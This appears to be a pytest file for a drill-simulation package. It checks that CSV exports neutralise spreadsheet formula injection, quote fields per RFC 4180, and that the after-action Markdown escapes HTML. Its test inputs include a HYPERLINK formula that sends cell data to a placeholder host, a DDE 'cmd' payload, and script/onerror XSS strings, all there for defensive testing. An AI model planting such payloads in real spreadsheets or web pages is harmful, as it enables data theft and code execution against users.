"""CSV drillsim writes: formulas neutralised, RFC 4180 quoting, and a lossless read back by drillsim's own readers.

Every CSV goes through drillsim.files (csv_text, frame_csv) and is read back
by csv_rows or read_frame; the hostile texts below are what a spreadsheet
would run, or what breaks a row written unquoted.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
import yaml

from drillsim import __version__, api
from drillsim.exercise import drill_incidents
from drillsim.exercise.cap import messages, parse_epoch
from drillsim.exercise.drilllog import DrillLogWriter, Entry, read
from drillsim.exercise.msel import inject_rows, to_csv
from drillsim.experiment.rundir import RunRows, SavedRun, write_run
from drillsim.files import csv_rows, csv_text, frame_csv, neutralise, read_frame, restore
from drillsim.scenario import Scenario, load
from tests.helpers import CASES, DATA, ROOT

HOSTILE = ['=HYPERLINK("http://evil.invalid/?"&A1,"click")', "-1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\tTab first", "\rCR first", "two lines\r\nthe second, with a comma and \"quotes\"", "a lone\rCR inside",
           "燃气泄漏，三号楼", "'=already quoted", "''-twice", "'", "-", "-3", "+1.5"]
FORMULA = "=+-@\t\r"


def _spreadsheet_safe(cell: str) -> bool:
    """What a spreadsheet sees of a cell: it runs it when it starts with a formula character (not a plain number)."""
    try:
        float(cell)
    except ValueError:
        return not cell or cell[0] not in FORMULA
    return True


def _hostile_scenario(tmp_path: Path) -> Path:
    """The hand-computed case with a hostile name and an inject description of every hostile text."""
    data = yaml.safe_load((CASES / "night-one-grid-worker.yaml").read_text(encoding="utf-8"))
    data["name"] = HOSTILE[0]
    data["injects"] = [{"at": f"01:{i:02d}", "category": "social_security", "example": "group_fight",
                        "level": "III", "grid": "grid_1", "description": text} for i, text in enumerate(HOSTILE)]
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Scenario:
    return load(_hostile_scenario(tmp_path_factory.mktemp("hostile")))


@pytest.fixture(scope="module")
def run_dir(hostile: Scenario, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("run") / "run"
    write_run(api.run(hostile, replications=1), out)
    return out


def test_neutralise_and_restore_are_inverse_and_keep_numbers() -> None:
    for text in HOSTILE:
        assert restore(neutralise(text)) == text
        assert _spreadsheet_safe(neutralise(text)), text
    assert neutralise("-3") == "-3" and neutralise("+1.5") == "+1.5"
    assert neutralise("-1+2") == "'-1+2" and neutralise("=A1") == "'=A1" and neutralise("'=A1") == "''=A1"
    assert neutralise("plain") == "plain" and neutralise("it's") == "it's"


def test_csv_text_quotes_per_rfc_4180_and_a_standard_reader_reads_it_back() -> None:
    text = csv_text([[t, i, -i] for i, t in enumerate(HOSTILE)], ["text", "number", "negative"])
    assert '"a lone\rCR inside"' in text  # Python's csv writer leaves a lone CR unquoted, which splits the row
    assert text.count("\n") == len(HOSTILE) + 1 + 1  # each row one LF, plus the one inside the quoted field
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    assert all(_spreadsheet_safe(row[0]) for row in rows[1:])
    assert [row[2] for row in rows[1:]] == [str(-i) for i in range(len(HOSTILE))]  # numbers stay numbers
    assert [cells[0] for _, cells in csv_rows(text, "t.csv")][1:] == HOSTILE


def test_frame_csv_writes_numbers_as_pandas_does_and_reads_back_lossless(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": HOSTILE, "n": range(len(HOSTILE)), "x": [0.1 * i - 0.5 for i in range(len(HOSTILE))],
                          "maybe": pd.array([None, *range(1, len(HOSTILE))], dtype="Int64")})
    plain = frame.assign(text="t")
    assert frame_csv(plain) == plain.to_csv(index=False)
    (tmp_path / "f.csv").write_text(frame_csv(frame), encoding="utf-8")
    back = read_frame(tmp_path / "f.csv")
    assert back["text"].tolist() == HOSTILE
    assert back["x"].tolist() == frame["x"].tolist() and back["maybe"].isna().tolist() == frame["maybe"].isna().tolist()


def test_every_run_csv_is_safe_and_the_saved_run_reads_the_text_back(run_dir: Path, hostile: Scenario) -> None:
    for name in ("events.csv", "steps.csv", "incidents.csv", "verdicts.csv"):
        rows = list(csv.reader(io.StringIO((run_dir / name).read_bytes().decode("utf-8"), newline="")))
        width = len(rows[0])
        assert all(len(row) == width for row in rows), name  # no row broken by a CR or LF
        assert all(_spreadsheet_safe(cell) for row in rows[1:] for cell in row), name
    saved = SavedRun(run_dir)
    described = saved.incidents.sort_values("occurred")["description"].tolist()
    assert described == HOSTILE
    assert set(saved.steps["scenario"]) == {HOSTILE[0]}


def test_export_cap_reads_a_run_whose_text_has_newlines(run_dir: Path) -> None:
    found = messages(RunRows(run_dir), parse_epoch("2026-01-05T00:00:00+08:00"), version=__version__)
    events = {m.xml.decode("utf-8").split("<event>")[1].split("</event>")[0] for m in found}
    assert "two lines\r\nthe second, with a comma and &quot;quotes&quot;" in events or \
        'two lines\r\nthe second, with a comma and "quotes"' in events
    assert "燃气泄漏，三号楼" in events


def test_msel_csv_is_safe(hostile: Scenario) -> None:
    text = to_csv(inject_rows(hostile, drill_incidents(hostile, scripted=True)))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert all(len(row) == len(rows[0]) for row in rows)
    assert all(_spreadsheet_safe(cell) for row in rows[1:] for cell in row)
    what = [restore(row[rows[0].index("what_happens")]) for row in rows[1:]]
    assert any("lines\r\nthe second, with a comma" in cell for cell in what)
    assert "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")" in what


def test_the_drill_log_round_trips_hostile_notes(hostile: Scenario, tmp_path: Path) -> None:
    incidents = drill_incidents(hostile, scripted=True)
    log = tmp_path / "drill.csv"
    with DrillLogWriter(log) as writer:
        for i, note in enumerate(HOSTILE):
            writer.append(Entry(3600 + 60 * i, incidents[i].id, "occurred", note=note))
    rows = list(csv.reader(io.StringIO(log.read_bytes().decode("utf-8"), newline="")))
    assert all(_spreadsheet_safe(cell) for row in rows[1:] for cell in row)
    assert [e.note for e in read(log, hostile, incidents)] == [n.strip() for n in HOSTILE]
    with DrillLogWriter(log) as writer:  # continued, read the same way
        writer.append(Entry(9000, incidents[0].id, "occurred", note="=again"))
    assert read(log, hostile, incidents)[-1].note == "=again"


def test_sweep_csv_is_safe(hostile: Scenario, tmp_path: Path) -> None:
    """A factor's values are text the user typed (`--vary description=...`), written into sweep.csv."""
    from drillsim.experiment.sweeps import sweep
    values = ["=1+2", "@SUM(A1)", "two\r\nlines, quoted"]
    outcome = sweep(hostile, {"description": values}, replications=2, out=tmp_path / "sweep")
    text = (tmp_path / "sweep" / "sweep.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert all(len(row) == len(rows[0]) for row in rows)
    assert all(_spreadsheet_safe(cell) for row in rows[1:] for cell in row)
    assert text == frame_csv(outcome.frame)
    assert set(read_frame(tmp_path / "sweep" / "sweep.csv")["description"]) == set(values)


def test_the_after_action_markdown_shows_scenario_html_as_text(tmp_path: Path) -> None:
    """`<script>`, `<img onerror>` and Markdown syntax in an inject's text (and a log note) cannot act in aar.md."""
    from drillsim.exercise.aar import draft, render_markdown
    from drillsim.exercise.evaluate import evaluate
    data = yaml.safe_load((ROOT / "scenarios" / "exam-day-leak-and-fire.yaml").read_text(encoding="utf-8"))
    data["injects"][0]["description"] = "<script>alert(1)</script> *loud* [click](javascript:alert(1)) a|b"
    data["injects"][1]["description"] = "<img src=x onerror=alert(2)>\n# Not a heading &amp; _not em_"
    path = tmp_path / "exam.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    scenario = load(path)
    log = tmp_path / "log.csv"
    log.write_text((DATA / "exam-day-drill-log.csv").read_text(encoding="utf-8")
                   + '0d 09:31,leak,,occurred,,"<script>alert(3)</script>"\n', encoding="utf-8")
    incidents = drill_incidents(scenario, scripted=True)
    md = render_markdown(draft(evaluate(scenario, incidents, read(log, scenario, incidents),
                                        api.run(scenario, replications=2, seed=615), "log.csv")))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "&lt;img src=x onerror=alert(2)&gt;" in md
    assert "<script" not in md and "<img" not in md and "onerror=alert(2)>" not in md
    assert "\\[click\\](javascript:alert(1))" in md and "\\*loud\\*" in md and "a\\|b" in md
    assert "&amp;amp;" in md and "\\_not em\\_" in md
    assert not any(line.startswith("# Not a heading") for line in md.splitlines())
    assert "(paper leak" not in md  # the descriptions replaced the examples' text
